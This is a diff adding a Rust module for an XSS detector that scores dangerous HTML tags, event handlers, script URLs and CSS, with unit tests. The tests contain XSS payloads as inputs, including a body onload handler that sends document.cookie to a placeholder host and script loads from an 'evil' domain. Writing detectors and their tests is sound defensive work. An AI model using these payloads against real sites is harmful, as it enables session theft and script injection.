@@ -1,0 +1,280 @@
+//! Dangerous HTML structure among the tokenizer's tags: script-bearing elements, event handler
+//! attributes, script-running URLs in URL attributes, `srcdoc`, script-running CSS. Tags that
+//! rich-text editors produce (`<p>`, `<a href="https://..">`, `<span style="color: red">`) score
+//! only as faint structure, which lets a confident model raise them but never flags by itself.
+
+use super::css;
+use super::js_sink::find_sinks;
+use super::tokenizer::{Tag, Tokens};
+use super::url_scheme::{decode_entities, url_attr_scheme, Scheme};
+use super::Hit;
+
+/// Faint structure: editor HTML.
+const EDITOR_TAGS_SCORE: f32 = 0.15;
+/// Some structure: tags outside the editor vocabulary, or with unusual attributes.
+const ODD_TAG_SCORE: f32 = 0.3;
+
+/// Attributes whose value a browser loads or navigates to as a URL.
+const URL_ATTRS: &[&str] = &[
+    "href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "lowsrc",
+    "dynsrc", "code", "codebase", "content", "values", "to", "from", "by", "folder", "datasrc",
+];
+
+/// Elements rich-text editors emit; anything else is at least "odd" structure.
+const EDITOR_TAGS: &[&str] = &[
+    "a", "abbr", "address", "article", "aside", "b", "bdi", "bdo", "blockquote", "br", "caption", "center", "cite",
+    "code", "col", "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure",
+    "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li", "main",
+    "mark", "nav", "ol", "p", "picture", "pre", "q", "s", "samp", "section", "small", "source", "span", "strike",
+    "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u",
+    "ul", "var", "wbr", "label", "title", "html", "head", "body", "nav",
+];
+
+/// Attributes editors emit on those elements.
+const EDITOR_ATTRS: &[&str] = &[
+    "href", "src", "alt", "title", "class", "id", "style", "width", "height", "target", "rel", "name", "align",
+    "border", "colspan", "rowspan", "cellpadding", "cellspacing", "color", "face", "size", "lang", "dir",
+    "start", "type", "valign", "datetime", "cite", "srcset", "sizes", "loading", "role", "for", "span",
+];
+
+/// Elements that run script or load another document by their mere presence.
+fn element_score(name: &str) -> Option<(f32, &'static str)> {
+    Some(match name {
+        "script" => (0.95, "tag <script>"),
+        "iframe" | "frame" | "frameset" => (0.6, "tag <iframe>/<frame> loading another document"),
+        "object" | "embed" | "applet" => (0.75, "tag <object>/<embed>/<applet> loading active content"),
+        "base" => (0.6, "tag <base> redirecting relative URLs"),
+        "portal" => (0.6, "tag <portal> loading another document"),
+        "import" => (0.7, "tag <import> (HTC)"),
+        "xss" | "xml" => (0.35, "unusual XML island tag"),
+        "template" | "svg" | "math" | "form" | "isindex" | "meta" | "link" | "style" | "xmp" | "noscript"
+        | "listing" | "plaintext" | "textarea" | "animate" | "set" | "handler" | "image" => {
+            (ODD_TAG_SCORE, "structural tag")
+        }
+        _ => return None,
+    })
+}
+
+fn attr<'a>(tag: &'a Tag<'_>, name: &str) -> Option<&'a str> {
+    tag.attrs.iter().find(|a| a.name == name).map(|a| a.value)
+}
+
+/// True for a plausible event handler attribute name: `on` and letters.
+fn is_event_attr(name: &str) -> bool {
+    name.len() > 4 && name.starts_with("on") && name[2..].bytes().all(|c| c.is_ascii_lowercase())
+}
+
+/// Judges one event handler value: JS-looking (a sink, a call, an assignment) or just text.
+pub fn handler_value_score(value: &str) -> Option<(f32, String)> {
+    let decoded = decode_entities(value);
+    let v = decoded.as_deref().unwrap_or(value).trim();
+    if v.is_empty() {
+        return None;
+    }
+    let view = super::js_sink::js_view(v);
+    if let Some(s) = find_sinks(&view).first() {
+        return Some((0.95, format!("calling {}", s.name)));
+    }
+    let js_like = v.contains('(') || v.contains('`') || v.contains('=') || v.contains('[') || v.contains(';');
+    Some(if js_like { (0.85, "with JS code".to_string()) } else { (0.6, "with a value".to_string()) })
+}
+
+fn judge_tag(tag: &Tag<'_>) -> Option<Hit> {
+    let mut best: Option<Hit> = None;
+    let mut take = |h: Hit| {
+        if best.as_ref().is_none_or(|b| h.score > b.score) {
+            best = Some(h);
+        }
+    };
+    let name = tag.name.as_str();
+    if tag.end {
+        if name == "script" {
+            take(Hit::new(0.55, "closing </script> tag (script context breakout)"));
+        }
+    } else if let Some((s, why)) = element_score(name) {
+        let why = if why == "structural tag" { format!("tag <{name}>") } else { why.to_string() };
+        take(Hit::new(s, why));
+    } else if !EDITOR_TAGS.contains(&name) {
+        take(Hit::new(ODD_TAG_SCORE, format!("unknown tag <{name}>")));
+    } else {
+        take(Hit::new(EDITOR_TAGS_SCORE, format!("tag <{name}>")));
+    }
+    match name {
+        "meta" => {
+            let equiv = attr(tag, "http-equiv").unwrap_or("").to_ascii_lowercase();
+            if equiv.contains("refresh") || equiv.contains("set-cookie") {
+                take(Hit::new(0.8, format!("tag <meta> with http-equiv {equiv}")));
+            }
+            // A UTF-7 family charset turns `+ADw-` into `<` for old browsers.
+            let charset = attr(tag, "charset").or_else(|| attr(tag, "content")).unwrap_or("").to_ascii_lowercase();
+            if charset.contains("utf-7") || charset.contains("utf7") {
+                take(Hit::new(0.7, "tag <meta> switching to a UTF-7 charset"));
+            }
+        }
+        "link" => {
+            let rel = attr(tag, "rel").unwrap_or("").to_ascii_lowercase();
+            if rel.contains("import") {
+                take(Hit::new(0.85, "tag <link> with rel=import"));
+            }
+        }
+        "style" => {
+            if let Some(h) = css::inspect_style(tag.body) {
+                take(Hit::new(h.score, format!("<style> body: {}", h.evidence)));
+            }
+        }
+        "script" => {
+            if let Some(src) = attr(tag, "src") {
+                if !src.is_empty() {
+                    take(Hit::new(0.95, "tag <script> with src"));
+                }
+            }
+        }
+        _ => {}
+    }
+    for a in &tag.attrs {
+        let an = a.name.as_str();
+        if is_event_attr(an) {
+            if let Some((s, how)) = handler_value_score(a.value) {
+                take(Hit::new(s, format!("tag <{name}> with event handler {an} {how}")));
+            }
+        } else if URL_ATTRS.contains(&an) {
+            if let Some((scheme, obfuscated)) = url_attr_scheme(a.value) {
+                let s = if scheme == Scheme::DataMarkup { 0.9 } else { 0.95 };
+                let how = if obfuscated { " after entity/whitespace decoding" } else { "" };
+                take(Hit::new(s, format!("{an} with {} scheme{how} in <{name}>", scheme.label())));
+            }
+        } else if an == "dataformatas" && a.value.to_ascii_lowercase().contains("html") {
+            take(Hit::new(0.6, format!("tag <{name}> binding data as HTML (dataformatas)")));
+        } else if an == "srcdoc" {
+            let s = if a.value.contains('<') || a.value.contains('&') { 0.9 } else { 0.6 };
+            take(Hit::new(s, format!("tag <{name}> with srcdoc")));
+        } else if an == "style" {
+            if let Some(h) = css::inspect_style(a.value) {
+                take(Hit::new(h.score, format!("style attribute on <{name}>: {}", h.evidence)));
+            }
+        } else if an.starts_with("ng-") || an.starts_with("v-") || an.starts_with(':') || an.starts_with('@') {
+            // Framework directives evaluate their value as an expression.
+            if find_sinks(a.value).iter().any(|s| s.name != "this" && s.name != "self") {
+                take(Hit::new(0.8, format!("framework directive {an} calling a JS sink")));
+            } else {
+                take(Hit::new(ODD_TAG_SCORE, format!("framework directive {an}")));
+            }
+        } else if !EDITOR_ATTRS.contains(&an) && !an.starts_with("data-") && !an.starts_with("aria-") {
+            take(Hit::new(ODD_TAG_SCORE.min(0.25), format!("unusual attribute {an} on <{name}>")));
+        }
+    }
+    best
+}
+
+/// The strongest structure among the tags, plus how many tags were strongly suspicious.
+pub fn inspect(tokens: &Tokens<'_>) -> Option<(Hit, usize)> {
+    let mut best: Option<Hit> = None;
+    let mut strong = 0;
+    for tag in &tokens.tags {
+        if let Some(h) = judge_tag(tag) {
+            if h.score >= 0.5 {
+                strong += 1;
+            }
+            if best.as_ref().is_none_or(|b| h.score > b.score) {
+                best = Some(h);
+            }
+        }
+    }
+    best.map(|b| (b, strong))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tokenizer::tokenize;
+    use super::*;
+
+    fn score(t: &str) -> f32 {
+        inspect(&tokenize(t)).map_or(0.0, |(h, _)| h.score)
+    }
+
+    fn evidence(t: &str) -> String {
+        inspect(&tokenize(t)).map(|(h, _)| h.evidence).unwrap_or_default()
+    }
+
+    #[test]
+    fn dangerous_elements() {
+        for t in [
+            "<script>alert(1)</script>",
+            "<SCRIPT SRC=//evil/x.js></SCRIPT>",
+            "<iframe src=https://evil/></iframe>",
+            "<object data=x.swf>",
+            "<embed src=x.swf>",
+            "<base href=//evil/>",
+            "<frameset><frame src=x>",
+            "<applet code=x>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil\">",
+            "<link rel=import href=//evil/x.html>",
+            "</script><script>alert(1)</script>",
+        ] {
+            assert!(score(t) >= 0.5, "{t}");
+        }
+    }
+
+    #[test]
+    fn event_handlers() {
+        assert!(evidence("<svg/onload=alert(1)>").contains("tag <svg> with event handler onload"));
+        for t in [
+            "<img src=x onerror=alert(1)//",
+            "<x contenteditable onkeydown=alert(1)>press",
+            "<body onload=\"document.location='//e/'+document.cookie\">",
+            "<details open ontoggle=alert`1`>",
+            "<a onmouseover=\"x()\">",
+        ] {
+            assert!(score(t) >= 0.8, "{t}");
+        }
+    }
+
+    #[test]
+    fn url_attributes() {
+        assert!(evidence("<a href=\"java&#x09;script:alert(1)\">x</a>").contains("after entity/whitespace decoding"));
+        for t in [
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=\"&#106;avascript:alert(1)\">x</a>",
+            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
+            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+            "<form action=javascript:alert(1)><input type=submit>",
+            "<button formaction=javascript:alert(1)>x",
+            "<math href=\"javascript:alert(1)\">x</math>",
+            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+            "<table background=\"javascript:alert(1)\">",
+            "<svg><animate attributeName=href values=javascript:alert(1) />",
+        ] {
+            assert!(score(t) >= 0.9, "{t}");
+        }
+    }
+
+    #[test]
+    fn styles() {
+        for t in [
+            "<div style=\"width: expression(alert(1))\">",
+            "<style>@import 'http://evil/x.css';</style>",
+            "<div style=\"background:url(javascript:alert(1))\">",
+            "<div style=\"-moz-binding:url(//evil/x.xml#x)\">",
+        ] {
+            assert!(score(t) >= 0.5, "{t}");
+        }
+    }
+
+    #[test]
+    fn editor_html_is_faint() {
+        for t in [
+            "<p>Hello <strong>world</strong> and <em>you</em></p>",
+            "<a href=\"https://example.com/page?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener\">link</a>",
+            "<img src=\"https://example.com/x.png\" alt=\"A cat\" width=\"200\">",
+            "<ul><li>one</li><li>two</li></ul><br>",
+            "<span style=\"color: red\">red</span>",
+            "<table><tr><td>1</td></tr></table><blockquote>q</blockquote>",
+            "<code>x</code><pre>y</pre><h1>t</h1><h6>u</h6><div class=\"x\">z</div>",
+            "<p style=\"text-align:center;background: url(https://x/y.png)\">c</p>",
+        ] {
+            assert!(score(t) < 0.3, "{t}: {}", evidence(t));
+        }
+    }
+}
